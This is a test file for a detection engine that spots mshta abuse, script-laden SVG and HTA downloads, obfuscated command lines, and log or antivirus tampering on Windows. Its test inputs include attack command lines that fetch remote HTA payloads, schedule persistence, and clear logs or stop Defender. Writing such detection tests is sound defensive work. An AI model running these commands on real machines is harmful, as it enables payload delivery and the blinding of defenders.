import { describe, expect, it } from 'vitest';
import type { Scenario } from '../events/story';
import {
  CMD,
  callsOut,
  EDGE,
  findingOf,
  findingsOf,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  pointsOf,
  SYSTEM,
  SYSTEM32,
  statesOf,
  storyOf,
  tuned,
  WORD,
  WSCRIPT,
} from './testStory';

const URL = 'https://files.example/view.hta';

/** mshta started with a command line, with one child; and the finding of it. */
function mshtaWith(commandLine: string, image = MSHTA, tell?: (s: Scenario) => void) {
  const { s } = storyOf();
  tell?.(s);
  const mshta = s.starts(image, { commandLine });
  s.starts(POWERSHELL, { parent: mshta });
  return findingOf(s.events(), 'AN1397');
}

describe('a renamed mshta', () => {
  const renamed = (source: 'sysmon' | 'security') => {
    const { s } = storyOf({ source });
    const copy = s.starts('C:\\Users\\Public\\svch0st.exe', {
      commandLine: `svch0st.exe ${URL}`,
      originalFileName: 'MSHTA.EXE',
    });
    s.starts(POWERSHELL, { parent: copy });
    return findingsOf(s.events(), 'AN1397');
  };

  it('is known by its original file name, and costs its maker points', () => {
    const [finding] = renamed('sysmon');
    expect(pointsOf(finding ?? never())).toMatchObject({ X12: 20, X13: 15, X2: 20 });
    expect(finding?.status).toBe('complete');
  });

  it('cannot be seen in 4688, and the definition says so', () => {
    expect(renamed('security')).toEqual([]);
    const { s } = storyOf({ source: 'security' });
    const mshta = s.starts(MSHTA, { commandLine: `${MSHTA} ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(finding.reasons.map((reason) => reason.id)).not.toContain('X12');
    expect(finding.knownGaps.join()).toMatch(/4688 has no original file name/);
  });
});

describe('obfuscated command lines', () => {
  it.each([
    ['carets', 'ms^hta ht^tps://files.example/a.h^ta'],
    ['inserted quotes', 'mshta vb""script:close'],
    ['full-width letters', 'mshta ｈｔｔｐｓ：／／files.example/a'],
    ['a zero-width space', 'mshta java\u200bscript:close()'],
  ])('are read through %s, and the reading is a reason', (_name, commandLine) => {
    expect(pointsOf(mshtaWith(commandLine))).toMatchObject({ X1: 20, X11: 10 });
  });

  it('leave no such reason on an ordinary line with a percent sign', () => {
    expect(pointsOf(mshtaWith(`mshta.exe "https://files.example/a%20b.hta"`))).not.toHaveProperty('X11');
  });
});

describe('paths written in other ways', () => {
  /** An SVG in Downloads, and mshta run on it as written. */
  const run = (written: (s: Scenario) => string, workingDirectory?: (s: Scenario) => string) => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const svg = `${homeOf(s)}\\Downloads\\quarterly plan.svg`;
    s.writes(edge, svg);
    s.marks(edge, svg);
    s.after('5m');
    s.starts(MSHTA, {
      commandLine: `${MSHTA} ${written(s)}`,
      ...(workingDirectory === undefined ? {} : { workingDirectory: workingDirectory(s) }),
    });
    return findingsOf(s.events(), 'AN1407');
  };

  it.each([
    ['as it is', (s: Scenario) => `"${homeOf(s)}\\Downloads\\quarterly plan.svg"`],
    ['in other case', (s: Scenario) => `"${homeOf(s).toUpperCase()}\\DOWNLOADS\\Quarterly Plan.SVG"`],
    [
      'with forward slashes',
      (s: Scenario) => `"${homeOf(s).replaceAll('\\', '/')}/Downloads/quarterly plan.svg"`,
    ],
    [
      'as a file URL',
      (s: Scenario) => `file:///${homeOf(s).replaceAll('\\', '/')}/Downloads/quarterly%20plan.svg`,
    ],
    ['with the long prefix', (s: Scenario) => `"\\\\?\\${homeOf(s)}\\Downloads\\quarterly plan.svg"`],
    [
      'through a share on this machine',
      (s: Scenario) => `"\\\\localhost\\c$${homeOf(s).slice(2)}\\Downloads\\quarterly plan.svg"`,
    ],
    [
      'with dots and doubled separators',
      (s: Scenario) => `"${homeOf(s)}\\.\\Downloads\\\\x\\..\\quarterly plan.svg"`,
    ],
    ['with a variable', () => '"%USERPROFILE%\\Downloads\\quarterly plan.svg"'],
    ['in short form', (s: Scenario) => `${homeOf(s)}\\DOWNLO~1\\QUARTE~1.SVG`],
    ['with its data stream named', (s: Scenario) => `"${homeOf(s)}\\Downloads\\quarterly plan.svg::$DATA"`],
  ])('name the same file %s', (_name, written) => {
    const [finding] = run(written);
    expect(finding?.status).toBe('complete');
    expect(pointsOf(finding ?? never())).toMatchObject({ S1: 35 });
  });

  it('name it from the working directory, which makes the join inferred', () => {
    const [finding] = run(
      () => '"quarterly plan.svg"',
      (s) => `${homeOf(s)}\\Downloads`,
    );
    expect(finding?.stages.find((stage) => stage.id === 'script_engine')?.relation?.strength).toBe(
      'inferred',
    );
  });

  it('do not join another file of the same name', () => {
    expect(run(() => '"C:\\Work\\quarterly plan.svg"').filter((one) => one.status === 'complete')).toEqual(
      [],
    );
  });
});

describe('content from elsewhere', () => {
  it.each([
    ['a share', '\\\\files.example\\pub\\a.hta'],
    ['WebDAV over TLS', '\\\\files.example@ssl@8443\\davwwwroot\\a.hta'],
    ['a share with slashes', '//files.example/pub/a.hta'],
    ['a file URL of another machine', 'file://files.example/pub/a.hta'],
  ])('is seen as %s', (_name, target) => {
    expect(pointsOf(mshtaWith(`${MSHTA} ${target}`))).toMatchObject({ X1: 20, X3: 20 });
  });

  it('is not seen in a long local path', () => {
    const points = pointsOf(mshtaWith(`${MSHTA} "\\\\?\\C:\\Users\\Public\\a.hta"`));
    expect(points).toMatchObject({ X6: 12 });
    expect(points).not.toHaveProperty('X3');
  });

  it('is seen in an alternate data stream', () => {
    expect(pointsOf(mshtaWith(`${MSHTA} C:\\Users\\Public\\note.txt:a.hta`))).toMatchObject({ X8: 20 });
  });

  it('counts for the call out when the spawned tool itself names the share', () => {
    const { s } = storyOf();
    const outlook = s.starts(OUTLOOK);
    const document = `${mailCacheOf(s)}\\offer.docm`;
    s.writes(outlook, document);
    const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" "${document}"` });
    s.starts(WSCRIPT, { parent: word, commandLine: `${WSCRIPT} \\\\files.example@80\\pub\\a.js` });
    expect(statesOf(findingOf(s.events(), 'AN1314')).egress).toBe('matched');
  });
});

describe('a parent that is not the cause', () => {
  it.each([
    ['WMI', `${SYSTEM32}\\wbem\\WmiPrvSE.exe`, 'wmiprvse.exe -secured -Embedding'],
    ['the task scheduler', `${SYSTEM32}\\svchost.exe`, 'svchost.exe -k netsvcs -p -s Schedule'],
  ])('is said to be %s', (_name, image, commandLine) => {
    const { s } = storyOf();
    const broker = s.starts(image, { parent: s.services, user: SYSTEM, commandLine });
    const mshta = s.starts(MSHTA, { parent: broker, commandLine: `${MSHTA} ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(pointsOf(finding)).toMatchObject({ L4: 10 });
    expect(finding.stages.find((stage) => stage.id === 'lineage')?.relation?.strength).toBe('broken');
  });

  it('holds a chain that hangs on a broken link at 69', () => {
    const { s } = storyOf();
    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\a.docm"` });
    s.after('1s');
    const broker = s.starts(`${SYSTEM32}\\wbem\\WmiPrvSE.exe`, { parent: word });
    const shell = s.starts(POWERSHELL, {
      parent: broker,
      commandLine: 'powershell -w hidden -enc AAAAAAAAAAAAAAAAAAAA',
    });
    callsOut(s, shell);
    for (const finding of findingsOf(s.events(), 'AN1314'))
      expect(finding.status === 'partial' || finding.score <= 69).toBe(true);
  });

  it('is said to be perhaps forged when it had ended before', () => {
    const { s } = storyOf();
    const word = s.starts(WORD);
    s.after('1m');
    s.ends(word);
    s.after('3m');
    const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    const lineage = findingOf(s.events(), 'AN1397').stages.find((stage) => stage.id === 'lineage');
    expect(lineage?.relation?.strength).toBe('inferred');
    expect(lineage?.relation?.text).toMatch(/forged/);
  });

  it('may have started before the log: the child names it, and the join is inferred', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { parent: s.explorer, commandLine: `${MSHTA} ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(statesOf(finding).lineage).toBe('matched');
    const orphan = storyOf();
    const unknown = orphan.s.starts(MSHTA, { parent: 'unknown', commandLine: `${MSHTA} ${URL}` });
    orphan.s.starts(POWERSHELL, { parent: unknown });
    expect(findingOf(orphan.s.events(), 'AN1397').status).toBe('complete');
  });

  it('may be Explorer: a double-clicked HTA is joined through its file', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const hta = `${homeOf(s)}\\Downloads\\form.hta`;
    s.writes(edge, hta);
    s.marks(edge, hta);
    s.after('10s');
    const mshta = s.starts(MSHTA, {
      commandLine: `"${MSHTA}" "${hta}" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`,
    });
    callsOut(s, mshta);
    expect(pointsOf(findingOf(s.events(), 'AN1397'))).toMatchObject({ X6: 12, X7: 10 });
    expect(findingOf(s.events(), 'AN1314').status).toBe('complete');
  });
});

describe('time', () => {
  it('leaves a callback after a long sleep outside the window', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { commandLine: `${MSHTA} ${URL}` });
    s.after('2h');
    callsOut(s, mshta);
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('partial');
    expect(statesOf(finding).network).toBe('absent');
  });

  it('makes what came after the log was cleared blind, and the clearing a reason', () => {
    const { s } = storyOf({ quiet: true });
    const before = s.starts(EDGE);
    s.connects(before, '10.20.1.15', 443);
    s.writes(before, `${homeOf(s)}\\Downloads\\a.pdf`);
    s.starts(MSHTA, { commandLine: `${MSHTA} ${URL}` });
    s.after('4s');
    s.tells('log_clear', undefined, { 'user.name': 'j.doe' });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('partial');
    expect(pointsOf(finding)).toMatchObject({ evasion_log: 10 });
    expect(statesOf(finding)).toMatchObject({
      network: 'blind',
      child_process: 'blind',
      file_write: 'blind',
    });
  });
});

describe('floods', () => {
  it('takes ten thousand SVGs by one process for one happening, in little time', { timeout: 30_000 }, () => {
    const { s } = storyOf();
    const archiver = s.starts('C:\\Program Files\\7-Zip\\7zG.exe');
    const from = performance.now();
    const events = [...s.events()];
    const [, sample] = [s.writes(archiver, `${homeOf(s)}\\Downloads\\pack\\i.svg`), s.events().at(-1)];
    const write = s.events().find((event) => event['file.path']?.endsWith('\\i.svg')) ?? sample ?? never();
    for (let i = 0; i < 10_000; i++) {
      events.push({
        ...write,
        id: `${write.id.slice(0, 30)}${i.toString(16).padStart(6, '0')}` as typeof write.id,
        'file.path': `${homeOf(s)}\\Downloads\\pack\\icon-${i}.svg`,
      });
    }
    expect(findingsOf(events, 'AN1407')).toEqual([]);
    expect(performance.now() - from).toBeLessThan(20_000);
  });

  it('does not lose the one SVG that was opened in the crowd it came in', () => {
    const { s } = storyOf();
    const archiver = s.starts('C:\\Program Files\\7-Zip\\7zG.exe');
    const folder = `${homeOf(s)}\\Downloads\\pack`;
    for (let i = 0; i < 60; i++) s.writes(archiver, `${folder}\\icon-${i}.svg`);
    s.after('30s');
    s.starts(MSHTA, { commandLine: `${MSHTA} ${folder}\\icon-7.svg` });
    const finding = findingOf(s.events(), 'AN1407');
    expect(finding.status).toBe('complete');
    expect(pointsOf(finding)).toMatchObject({ S1: 35 });
  });

  it('keeps its measure over ten thousand children', { timeout: 30_000 }, () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { commandLine: `${MSHTA} ${URL}` });
    const child = s.starts(CMD, { parent: mshta });
    const start = s.events().find((event) => event['process.entity_id'] === child.entityId) ?? never();
    const events = [...s.events()];
    for (let i = 0; i < 10_000; i++) {
      const tail = i.toString(16).padStart(6, '0');
      events.push({
        ...start,
        id: `${start.id.slice(0, 30)}${tail}` as typeof start.id,
        'process.entity_id': `${child.entityId.slice(0, -6)}${tail}` as typeof child.entityId,
        'process.pid': 20_000 + i * 4,
      });
    }
    const finding = findingOf(events, 'AN1397');
    const stage = finding.stages.find((one) => one.id === 'child_process');
    expect(finding.status).toBe('complete');
    expect(stage?.eventsTotal).toBeGreaterThan(1000);
    expect(stage?.events.length).toBeLessThanOrEqual(8);
  });
});

describe('hiding behind what is harmless', () => {
  it('a folder named like a build does not exempt a marked SVG', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const svg = `${homeOf(s)}\\Downloads\\dist\\invoice.svg`;
    s.writes(edge, svg);
    s.marks(edge, svg);
    s.after('30s');
    s.starts(MSHTA, { commandLine: `${MSHTA} ${svg}` });
    expect(findingOf(s.events(), 'AN1407').status).toBe('complete');
  });

  it.each([
    'C:\\Users\\Public\\a.dll,Run photoviewer.dll,ImageView_Fullscreen',
    'C:\\Users\\Public\\photoviewer.dll,ImageView_Fullscreen',
    'C:\\Windows\\System32\\spool\\..\\..\\..\\Users\\Public\\a.dll,Run',
  ])('a helper named on the line does not suppress another library: %s', (args) => {
    const { s } = storyOf();
    const outlook = s.starts(OUTLOOK);
    s.starts(`${SYSTEM32}\\rundll32.exe`, { parent: outlook, commandLine: `rundll32.exe ${args}` });
    const [finding] = findingsOf(s.events(), 'AN1314');
    expect(finding?.suppressed).toBe(false);
  });

  it('mshta without arguments is found by what it does, and not without', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { commandLine: 'mshta.exe' });
    expect(findingsOf(s.events(), 'AN1397')).toEqual([]);
    s.starts(POWERSHELL, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(finding.reasons.map((reason) => reason.text).join()).toMatch(/without arguments/);
  });
});

describe('mshta by name only', () => {
  it.each([
    [`${SYSTEM32}\\findstr.exe`, 'findstr /s "mshta.exe https://files.example/a.hta" C:\\Logs\\*.txt'],
    [POWERSHELL, 'powershell.exe -c "Get-Process mshta; iwr https://files.example/mshta.hta"'],
    [
      'C:\\Program Files\\Scanner\\scan.exe',
      'scan.exe --exclude C:\\Windows\\System32\\mshta.exe vbscript:Execute',
    ],
    ['C:\\Tools\\mshta.exe.bak.exe', 'mshta.exe.bak.exe https://files.example/a.hta'],
  ])('is no mshta: %s', (image, commandLine) => {
    const { s } = storyOf();
    const process = s.starts(image, { commandLine });
    s.starts(CMD, { parent: process });
    s.connects(process, '203.0.113.9', 443);
    expect(findingsOf(s.events(), 'AN1397')).toEqual([]);
  });
});

/*
 * ANALYTICS F, the rows that have no test above. 1, 5 (Explorer), 9, 10, 15-18, 24, 25 and 28 (helpers) are above or in
 * the catalogue's own tests; each row is detected, or honestly partial or blind with its sentence.
 */
describe('ANALYTICS F', () => {
  it('2: a copy without its name is known by the engine it loads, and held at 69', () => {
    const { s } = storyOf();
    const copy = s.starts('C:\\Users\\Public\\viewer.exe', {
      commandLine: `viewer.exe https://files.example/a.hta`,
      originalFileName: 'viewer.exe',
    });
    s.loads(copy, `${SYSTEM32}\\mshtml.dll`);
    s.starts(POWERSHELL, { parent: copy, commandLine: 'powershell -f C:\\Users\\Public\\a.ps1' });
    callsOut(s, copy);
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(finding.score).toBe(69);
    expect(JSON.stringify(finding.caps)).toMatch(/identity is inferred from behaviour/);
  });

  it.each([
    ['forfiles', `${SYSTEM32}\\forfiles.exe`, `forfiles /p C:\\Windows /m notepad.exe /c "mshta ${URL}"`],
    ['pcalua', `${SYSTEM32}\\pcalua.exe`, `pcalua -a mshta.exe -c ${URL}`],
    ['conhost', `${SYSTEM32}\\conhost.exe`, `conhost.exe mshta ${URL}`],
    ['wt', 'C:\\Program Files\\WindowsApps\\Terminal\\wt.exe', `wt.exe mshta ${URL}`],
  ])('3: a launcher in between does not hide the document: %s', (_name, image, commandLine) => {
    const { s } = storyOf();
    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\a.docm"` });
    const launcher = s.starts(image, { parent: word, commandLine });
    const mshta = s.starts(MSHTA, { parent: launcher, commandLine: `mshta ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(pointsOf(finding)).toMatchObject({ L1t: 20 });
    expect(statesOf(findingOf(s.events(), 'AN1314')).user_app).toBe('matched');
  });

  it('4: content over COM is said to have come over COM, and who reached it is a reason', () => {
    const { s } = storyOf();
    const dcom = s.starts(`${SYSTEM32}\\svchost.exe`, {
      parent: s.services,
      user: SYSTEM,
      commandLine: 'svchost.exe -k DcomLaunch',
    });
    const mshta = s.starts(MSHTA, { parent: dcom, commandLine: `${MSHTA} -Embedding` });
    s.connects(mshta, '10.20.7.31', 55_683, { direction: 'ingress' });
    s.starts(CMD, { parent: mshta });
    const said = findingOf(s.events(), 'AN1397')
      .reasons.map(({ text }) => text)
      .join('; ');
    expect(said).toMatch(/activated over COM, without content on its command line/);
    expect(said).toMatch(/a connection came in to it from another machine/);
  });

  it('6: WMI asked for by a document’s macro does not end the lineage', () => {
    const { s } = storyOf();
    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\a.docm"` });
    s.starts(`${SYSTEM32}\\wbem\\WMIC.exe`, {
      parent: word,
      commandLine: `wmic process call create "mshta.exe ${URL}"`,
    });
    s.after('1s');
    const wmi = s.starts(`${SYSTEM32}\\wbem\\WmiPrvSE.exe`, { parent: s.services, user: SYSTEM });
    const mshta = s.starts(MSHTA, { parent: wmi, commandLine: `mshta.exe ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    expect(pointsOf(findingOf(s.events(), 'AN1397'))).toMatchObject({ L1t: 20 });
  });

  it('7: a task registered by the lineage continues the chain when it runs', () => {
    const { s } = storyOf();
    const outlook = s.starts(OUTLOOK);
    const document = `${mailCacheOf(s)}\\offer.docm`;
    s.writes(outlook, document);
    s.marks(outlook, document);
    const word = s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" "${document}"` });
    s.starts(`${SYSTEM32}\\schtasks.exe`, {
      parent: word,
      commandLine: `schtasks /create /sc minute /mo 1 /tn Upd /tr "mshta.exe ${URL}"`,
    });
    s.after('2m');
    const mshta = s.starts(MSHTA, { parent: s.svchost, commandLine: `mshta.exe ${URL}` });
    callsOut(s, mshta);
    const [finding] = findingsOf(s.events(), 'AN1314');
    expect(finding?.status).toBe('complete');
    const reasons = findingOf(s.events(), 'AN1397').reasons.filter(({ counted }) => counted);
    expect(reasons.map(({ id }) => id)).toContain('L1t');
  });

  it.each([
    [
      'the WebDAV client',
      (s: Scenario) => {
        const client = s.starts(`${SYSTEM32}\\svchost.exe`, { parent: s.services, user: SYSTEM });
        s.starts(`${SYSTEM32}\\rundll32.exe`, {
          parent: client,
          commandLine:
            'rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie files.example http://files.example/pub',
        });
      },
    ],
  ])('8: what %s fetched for mshta counts as its network', (_name, tell) => {
    const { s } = storyOf({ without: ['network_connect', 'dns_query'] });
    s.starts(MSHTA, { commandLine: `${MSHTA} \\\\files.example@80\\pub\\a.hta` });
    s.after('2s');
    tell(s);
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(pointsOf(finding)).toMatchObject({ F8d: 5 });
    expect(finding.stages.find(({ id }) => id === 'network')?.relation?.text).toMatch(
      /both name files\.example/,
    );
  });

  it('9: where the source names the real creator, that is the parent', () => {
    const { s } = storyOf();
    const word = s.starts(WORD);
    s.after('1s');
    const before = s.events().length;
    const mshta = s.starts(MSHTA, { parent: s.explorer, commandLine: `mshta ${URL}` });
    s.starts(POWERSHELL, { parent: mshta });
    expect(s.events().length).toBeGreaterThan(before);
    const events = s.events().map((event) =>
      event['process.entity_id'] === mshta.entityId && event.kind === 'process_start'
        ? {
            ...event,
            'process.parent.Ext.real.entity_id': word.entityId,
            'process.parent.Ext.real.pid': word.pid,
            'process.parent.Ext.real.executable': word.executable,
          }
        : event,
    );
    expect(pointsOf(findingOf(events, 'AN1397'))).toMatchObject({ L1: 20 });
  });

  it('11: what runs in another process after a remote thread belongs to the chain', () => {
    const { s } = storyOf();
    const notepad = s.starts(`${SYSTEM32}\\notepad.exe`);
    s.after('5m');
    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
    s.tells('remote_thread', mshta, {
      'Target.process.entity_id': notepad.entityId,
      'Target.process.pid': notepad.pid,
      'Target.process.executable': notepad.executable,
    });
    s.after('2s');
    callsOut(s, notepad);
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(statesOf(finding).network).toBe('matched');
    expect(finding.weakestLink.strength).toBe('inferred');
  });

  it('12: a file renamed between writing and running is followed', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const folder = `${homeOf(s)}\\Downloads`;
    s.writes(edge, `${folder}\\form.tmp`);
    s.renames(edge, `${folder}\\form.tmp`, `${folder}\\form.hta`);
    s.after('10s');
    callsOut(s, s.starts(MSHTA, { commandLine: `"${MSHTA}" "${folder}\\form.hta"` }));
    expect(findingOf(s.events(), 'AN1314').status).toBe('complete');
  });

  it('13: a program on a mounted disk image is tied to the image, whose mark it lost', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const image = `${homeOf(s)}\\Downloads\\documents.iso`;
    s.writes(edge, image);
    s.marks(edge, image, { hostUrl: 'https://files.example/documents.iso' });
    s.after('40s');
    callsOut(s, s.starts(CMD, { commandLine: `${CMD} /c E:\\open.cmd` }));
    const finding = findingOf(s.events(), 'AN1314');
    expect(finding.status).toBe('complete');
    expect(pointsOf(finding)).toMatchObject({ A2: 10, A3: 8, A5: 10 });
    expect(finding.weakestLink.strength).toBe('inferred');
  });

  it('14: without a mark nothing is required, and taking one off is a reason', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const script = `${homeOf(s)}\\Downloads\\tool.js`;
    s.writes(edge, script);
    s.marks(edge, script);
    s.after('5s');
    s.deletes(s.explorer, `${script}:Zone.Identifier`);
    s.after('5s');
    callsOut(s, s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` }));
    const finding = findingOf(s.events(), 'AN1314');
    expect(finding.status).toBe('complete');
    expect(pointsOf(finding)).toMatchObject({ A6: 8 });
    const bare = storyOf();
    const browser = bare.s.starts(EDGE);
    const unmarked = `${homeOf(bare.s)}\\Downloads\\tool.js`;
    bare.s.writes(browser, unmarked);
    bare.s.after('5s');
    callsOut(bare.s, bare.s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${unmarked}"` }));
    expect(findingOf(bare.s.events(), 'AN1314').status).toBe('complete');
  });

  it('16: a part of an environment variable cannot be undone, which is a reason', () => {
    expect(pointsOf(mshtaWith(`mshta.exe https://files.example/%comspec:~0,1%.hta`))).toMatchObject({
      X11s: 10,
    });
  });

  it('17: content by clipboard or registry is said to be invisible', () => {
    const finding = mshtaWith('mshta.exe form');
    expect(finding.status).toBe('complete');
    expect(finding.reasons.map(({ text }) => text).join()).toMatch(/where it came from is not visible/);
  });

  it.each(['about:internet', 'blob:https://page.example/1', 'data:text/html;base64,AA'])(
    '19: a page that made its own file ties it to the SVG: %s',
    (hostUrl) => {
      const { s } = storyOf();
      const edge = s.starts(EDGE);
      const svg = `${homeOf(s)}\\Downloads\\plan.svg`;
      s.writes(edge, svg);
      s.marks(edge, svg);
      s.after('9s');
      s.starts(EDGE, { commandLine: `"${EDGE}" ${svg}` });
      s.after('4s');
      const script = `${homeOf(s)}\\Downloads\\plan.js`;
      s.writes(edge, script);
      s.marks(edge, script, { hostUrl });
      s.after('20s');
      s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` });
      const finding = findingOf(s.events(), 'AN1407');
      expect(finding.status).toBe('complete');
      expect(pointsOf(finding)).toMatchObject({ S2: 30 });
    },
  );

  it('20: an SVG shown inside the mail program is followed through its web view; otherwise the gap is said', () => {
    const { s } = storyOf();
    const view = s.starts(
      'C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\msedgewebview2.exe',
      {
        parent: s.starts(OUTLOOK),
      },
    );
    const svg = `${homeOf(s)}\\AppData\\Local\\Microsoft\\Olk\\Attachments\\ooa-1\\plan.svg`;
    s.writes(view, svg);
    s.marks(view, svg);
    s.after('8s');
    s.starts(MSHTA, { parent: view, commandLine: `${MSHTA} ${svg}` });
    const finding = findingOf(s.events(), 'AN1407');
    expect(finding.status).toBe('complete');
    expect(finding.knownGaps.join()).toMatch(/shown inside the mail or chat program/);
  });

  it('21: a page in place of an SVG is followed where the place says that pages count', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const page = `${homeOf(s)}\\Downloads\\invoice.html`;
    s.writes(edge, page);
    s.marks(edge, page);
    s.after('9s');
    s.starts(MSHTA, { commandLine: `${MSHTA} ${page}` });
    expect(findingsOf(s.events(), 'AN1407')).toEqual([]);
    const pages = tuned('AN1407', { FileExtensionPattern: ['svg', 'svgz', 'html'] });
    expect(findingsOf(s.events(), 'AN1407', pages).map(({ status }) => status)).toEqual(['complete']);
  });

  it('22: a call out after two hours is late: no completion, three points', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
    s.after('2h');
    callsOut(s, mshta);
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('partial');
    expect(pointsOf(finding)).toMatchObject({ late: 3 });
  });

  it('23: an ordinary destination is judged ordinary and still counts as the call out', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
    s.resolves(mshta, 'tenant.sharepoint.example', ['198.51.100.3']);
    s.connects(mshta, '198.51.100.3', 443);
    const finding = findingOf(s.events(), 'AN1397');
    expect(finding.status).toBe('complete');
    expect(pointsOf(finding)).toMatchObject({ F7: 5 });
  });

  it.each(['wevtutil.exe cl Security', 'fltmc.exe unload SysmonDrv', 'sc.exe stop WinDefend'])(
    '25: doing away with the sensor is a reason: %s',
    (commandLine) => {
      const { s } = storyOf();
      const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
      const image = `${SYSTEM32}\\${commandLine.slice(0, commandLine.indexOf(' '))}`;
      s.starts(image, { parent: mshta, commandLine });
      expect(pointsOf(findingOf(s.events(), 'AN1397'))).toMatchObject({ evasion_log: 10 });
    },
  );

  it('26: a sensor clock eight hours off costs no stage', () => {
    const { s } = storyOf();
    const mshta = s.starts(MSHTA, { commandLine: `mshta ${URL}` });
    s.connects(mshta, '203.0.113.9', 443, { sensorClock: '-8h' });
    expect(statesOf(findingOf(s.events(), 'AN1397')).network).toBe('matched');
  });

  it('27: a line as long as its source can record is said to be perhaps cut', () => {
    const finding = mshtaWith(`mshta.exe https://files.example/${'a'.repeat(8_200)}`);
    expect(finding.reasons.map(({ text }) => text).join()).toMatch(/may have cut it/);
  });

  it('28: an allowed source lowers only when it is the source, not when it is mentioned', () => {
    const allowed = tuned('AN1397', { AllowedHTASources: ['portal.corp.example'] });
    const told = (commandLine: string) => {
      const { s } = storyOf();
      s.starts(POWERSHELL, { parent: s.starts(MSHTA, { commandLine }) });
      return pointsOf(findingsOf(s.events(), 'AN1397', allowed)[0] ?? never());
    };
    expect(told('mshta https://portal.corp.example/a.hta')).toMatchObject({ B1: -40 });
    expect(told('mshta https://files.example/a.hta?portal.corp.example')).not.toHaveProperty('B1');
    expect(told('mshta https://evilportal.corp.example.files.example/a.hta')).not.toHaveProperty('B1');
    expect(told('mshta https://portal.corp.example@files.example/a.hta')).not.toHaveProperty('B1');
  });
});

function never(): never {
  throw new Error('the story lacks what the test needs');
}
